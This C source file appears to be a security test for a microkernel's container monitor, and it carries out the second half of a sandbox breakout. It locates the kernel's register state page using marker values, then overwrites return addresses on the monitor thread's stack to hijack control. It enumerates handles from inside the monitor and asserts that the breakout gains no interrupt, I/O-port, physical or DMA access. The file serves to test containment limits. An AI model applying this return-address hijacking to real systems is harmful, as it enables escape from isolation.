/*
 * breakout's second half: with its monitor's memory in reach the program has the monitor run a function of its own. It finds
 * the page into which the kernel puts its registers, and above it the stack of the monitor's thread that serves it; there it
 * replaces return addresses. Its next system call returns, within the monitor, to trampoline() here, in native mode.
 *
 * There it asks the kernel about every handle that the monitor can have. That is all a break-out is worth: what the
 * container's manifest gives. Then the monitor goes on where it would have, as if nothing had been.
 */
#include <microkernel/abi.h>
#include <microkernel/objects.h>
#include <microkernel/rights.h>
#include <sys/syscall.h>
#include "breakout.h"
#include "check.h"

#define HANDLE_INFO 14 /* the kernel's system calls */
#define MEMORY_INFO 73
/* The monitor maps ever higher: each thread that it has had took some. */
#define STRETCHES_LOOKED_AT 1024u
#define STACK_ABOVE (2 * PAGE) /* from the state page: a guard page lies between */
#define SLOTS_MAX 2048u
#define INDEXES_TRIED 1024u
#define GENERATIONS_TRIED 64u
#define MARK 0x6b72616d2079656bul /* times 1 to 4 in r12 to r15, where nobody else has it */

static struct slot {
	uintptr_t *at;
	uintptr_t original;
} slots[SLOTS_MAX];
static unsigned slot_count;

/* Written in native mode. */
static volatile unsigned runs, handles, types;
static volatile unsigned
	writable_kinds; /* of memory that may be written to: a bit for each MEMORY_KIND_* */

/* --- in the monitor's place --- */

static long native_call(uint64_t number, uint64_t a, void *b)
{
	uint64_t rdx = 0;

	__asm__ volatile("syscall"
	                 : "+a"(number), "+d"(rdx)
	                 : "D"(a), "S"(b)
	                 : "rcx", "r11", "memory");
	return (int32_t)number;
}

static unsigned memory_kind(uint32_t handle)
{
	struct memory_info info;

	return native_call(MEMORY_INFO, handle, &info) == 0 ? 1u << info.kind : 0;
}

static void try_handles(void)
{
	struct handle_info
		info; /* on the monitor's stack, where the kernel takes it for the monitor's */

	for (uint32_t generation = 1; generation <= GENERATIONS_TRIED; generation++) {
		for (uint32_t index = 0; index < INDEXES_TRIED; index++) {
			uint32_t handle = generation << 16 | index;

			if (native_call(HANDLE_INFO, handle, &info) != 0)
				continue;
			handles++;
			types |= 1u << info.type;
			if (info.type == OBJECT_MEMORY && info.rights & RIGHT_WRITE)
				writable_kinds |= memory_kind(handle);
		}
	}
}

/* Returns where the monitor meant to go. What lies below this slot is no frame of anybody but ours. */
__attribute__((used)) static uintptr_t in_native_mode(const uintptr_t *came_by)
{
	uintptr_t original = 0;

	for (unsigned i = 0; i < slot_count; i++) {
		if (slots[i].at >= came_by)
			*slots[i].at = slots[i].original;
		if (slots[i].at == came_by)
			original = slots[i].original;
	}
	slot_count = 0;
	runs++;
	try_handles();
	return original;
}

/* As a function that was called where the monitor returns: what it would find in registers, it finds. */
void trampoline(void);
__asm__(".text\n"
        "trampoline:\n\t"
        "leaq -8(%rsp), %rdi\n\t"
        "subq $8, %rsp\n\t" /* the slot stays */
        "pushq %rax\n\t"
        "call in_native_mode\n\t"
        "movq %rax, %rcx\n\t"
        "popq %rax\n\t"
        "addq $8, %rsp\n\t"
        "jmp *%rcx");

/* --- as a guest --- */

static void call_marked(void)
{
	register uint64_t r12 __asm__("r12") = MARK;
	register uint64_t r13 __asm__("r13") = MARK * 2;
	register uint64_t r14 __asm__("r14") = MARK * 3;
	register uint64_t r15 __asm__("r15") = MARK * 4;
	long number = SYS_getppid;

	__asm__ volatile("syscall"
	                 : "+a"(number), "+r"(r12), "+r"(r13), "+r"(r14), "+r"(r15)
	                 :
	                 : "rcx", "r11", "memory");
}

static bool is_state_page(uintptr_t page)
{
	const volatile struct guest_registers *regs = (const volatile void *)page;

	if (!can_read(page) || !can_write(page))
		return false;
	call_marked();
	return regs->r12 == MARK && regs->r13 == MARK * 2 && regs->r14 == MARK * 3 &&
	       regs->r15 == MARK * 4;
}

static uintptr_t find_state_page(uintptr_t from)
{
	for (uintptr_t page = from; page < from + STRETCHES_LOOKED_AT * STRETCH; page += PAGE)
		if (is_state_page(page))
			return page;
	return 0;
}

static void replace_returns(uintptr_t stack, const struct finding *found)
{
	for (uintptr_t at = stack; at < stack + START_STACK_BYTES; at += sizeof(uintptr_t)) {
		uintptr_t *word = (uintptr_t *)at;

		if (!can_read(at) || *word < found->code || *word >= found->code_end ||
		    slot_count == SLOTS_MAX)
			continue;
		slots[slot_count++] = (struct slot){word, *word};
		*word = (uintptr_t)trampoline;
	}
}

void test_takeover(const struct finding *found)
{
	uintptr_t state = find_state_page(found->stretch);

	CHECK(state);
	if (!state)
		return;
	/* A page that is written to before is there when the monitor writes to it. */
	runs = handles = types = writable_kinds = 0;
	replace_returns(state + STACK_ABOVE, found);
	(void)getppid();
	printf("its monitor ran our code: it has %u handles\n", handles);
	CHECK(runs == 1 && handles > 0);
	CHECK(types & 1u << OBJECT_SPACE && types & 1u << OBJECT_ENDPOINT);
	CHECK(!(types & (1u << OBJECT_INTERRUPT | 1u << OBJECT_IOPORT)));
	CHECK(writable_kinds &&
	      !(writable_kinds & (1u << MEMORY_KIND_PHYSICAL | 1u << MEMORY_KIND_DMA)));
}
